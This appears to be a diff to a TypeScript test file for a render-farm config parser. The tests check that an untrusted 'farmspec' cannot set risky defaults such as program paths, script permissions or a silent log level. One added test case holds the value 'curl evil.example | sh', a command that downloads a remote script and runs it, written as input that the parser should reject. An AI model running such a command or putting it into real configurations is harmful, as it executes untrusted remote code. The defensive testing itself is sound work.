@@ -9,6 +9,7 @@ import {
   readFarmspec,
   writeFarmspec,
 } from "../../src/config/farmspec.ts";
+import { flagOf } from "../../src/config/options.ts";
 import type { Sighting } from "../../src/core/node.ts";
 import { makeTemporaryFolder, type TemporaryFolder } from "../support/temporary-folder.ts";
 
@@ -44,7 +45,6 @@ describe("parseFarmspec() names the JSON path of", () => {
     ["defaults.crf", "", { defaults: { crf: 64 } }],
     ["defaults.blenderVersion", "", { defaults: { blenderVersion: "newest" } }],
     ["defaults.key", "no such field", { defaults: { key: "secret" } }],
-    ["defaults.output", "no such field", { defaults: { output: "a.mp4" } }],
     ["defaults.keep-frames", "no such field", { defaults: { "keep-frames": true } }],
     ["node", "no such field", { node: [] }],
     ["the whole file", "", []],
@@ -177,6 +177,7 @@ test.skipIf(process.platform === "win32").each([
 
 describe("a farmspec may come from somebody else, so its defaults may not", () => {
   test.each<[what: string, defaults: Record<string, unknown>]>([
+    ["run a command", { onDone: "curl evil.example | sh" }],
     ["name a program", { ffmpeg: "./ffmpeg" }],
     ["name another program", { blender: "./blender" }],
     ["allow scripts", { allowScripts: true }],
@@ -192,7 +193,8 @@ describe("a farmspec may come from somebody else, so its defaults may not", () =
     ["hide the log", { logLevel: "silent" }],
   ])("%s", (_, defaults) => {
     const read = () => parseFarmspec(JSON.stringify({ defaults }), "farmspec.json");
-    expect(read).toThrow(`defaults.${Object.keys(defaults)[0]}: there is no such field`);
+    const [name = ""] = Object.keys(defaults);
+    expect(read).toThrow(`defaults.${name}: a farmspec cannot set ${flagOf(name)}`);
   });
 });
 
